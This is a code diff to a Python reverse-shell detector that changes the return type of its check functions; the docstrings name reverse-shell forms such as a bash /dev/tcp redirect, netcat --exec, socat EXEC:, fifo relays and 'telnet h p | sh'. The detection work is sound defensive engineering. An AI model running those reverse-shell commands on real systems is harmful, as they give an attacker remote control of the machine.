@@ -19,6 +19,7 @@ from collections.abc import Callable
 
 from auditstream.detections.exec.request import ExecRequest
 from auditstream.detections.exec.shell_words import SimpleCommand
+from auditstream.detections.rule_hit import Explanation
 
 from .indicators import (
     NETCATS,
@@ -36,14 +37,13 @@ from .indicators import (
     socket_redirects,
 )
 from .interpreters import interpreter_socket
-from .types import NativeHit
 
-Check = Callable[[ExecRequest, SimpleCommand], NativeHit | None]
+Check = Callable[[ExecRequest, SimpleCommand], Explanation | None]
 _PROBE_ARGV = frozenset({(), (":",), ("true",), ("cat",), ("exit",)})
 _NC_EXEC_LONG = ("--exec", "--sh-exec", "--lua-exec")
 
 
-def _shell_to_socket(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
+def _shell_to_socket(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
     """``bash -i >& /dev/tcp/h/p 0>&1`` and kin: a shell whose stdio is a socket."""
     sockets = socket_redirects(cmd)
     if sockets and is_shell(cmd):
@@ -51,7 +51,7 @@ def _shell_to_socket(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
     return None
 
 
-def _dev_tcp(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
+def _dev_tcp(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
     """Any other ``/dev/tcp`` or ``/dev/udp`` use, minus allow-listed hosts and empty probes."""
     found = socket_redirects(cmd)
     if is_interpreter(cmd):
@@ -77,7 +77,7 @@ def _is_probe(cmd: SimpleCommand) -> bool:
     return cmd.name in ("echo", "printf") and literal
 
 
-def _netcat_exec(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
+def _netcat_exec(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
     """nc/ncat/netcat (busybox included) that executes a program for the peer."""
     if cmd.name not in NETCATS:
         return None
@@ -87,7 +87,7 @@ def _netcat_exec(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
     return None
 
 
-def _socat_exec(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
+def _socat_exec(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
     """socat joining ``EXEC:``/``SYSTEM:`` or a pty to a network address (any case)."""
     if cmd.name != "socat":
         return None
@@ -100,12 +100,12 @@ def _socat_exec(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
     return None
 
 
-def _interpreter(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
+def _interpreter(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
     found = interpreter_socket(cmd) if is_interpreter(cmd) else None
     return hit(found[0], cmd, req, found[1]) if found else None
 
 
-def _ztcp(req: ExecRequest, cmd: SimpleCommand) -> NativeHit | None:
+def _ztcp(req: ExecRequest, cmd: SimpleCommand) -> Explanation | None:
     """zsh ``ztcp HOST PORT`` (module ``zsh/net/tcp``) to a remote host, or ``ztcp -l``."""
     if cmd.name != "ztcp":
         return None
@@ -125,7 +125,7 @@ COMMAND_CHECKS: tuple[Check, ...] = (
 )
 
 
-def _fifo_relay(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> NativeHit | None:
+def _fifo_relay(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> Explanation | None:
     """``mkfifo``/``mknod p`` in the same exec as a network client: the classic fifo relay."""
     fifo = any(c.name == "mkfifo" or (c.name == "mknod" and "p" in c.argv[2:]) for c in cmds)
     if not fifo:
@@ -137,7 +137,7 @@ def _fifo_relay(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> NativeHit 
     return None
 
 
-def _pipe_to_shell(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> NativeHit | None:
+def _pipe_to_shell(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> Explanation | None:
     """A network client and a stdin-reading shell in one pipeline (``telnet h p | sh | ...``)."""
     shells = {c.pipeline for c in cmds if is_shell(c) and runs_stdin(c)}
     for cmd in cmds:
@@ -151,7 +151,7 @@ def _pipe_to_shell(req: ExecRequest, cmds: tuple[SimpleCommand, ...]) -> NativeH
 
 def reverse_shell_hardened(
     request: ExecRequest, commands: tuple[SimpleCommand, ...]
-) -> NativeHit | None:
+) -> Explanation | None:
     """The registered predicate: the first indicator found, in command order."""
     for cmd in commands:
         for check in COMMAND_CHECKS:
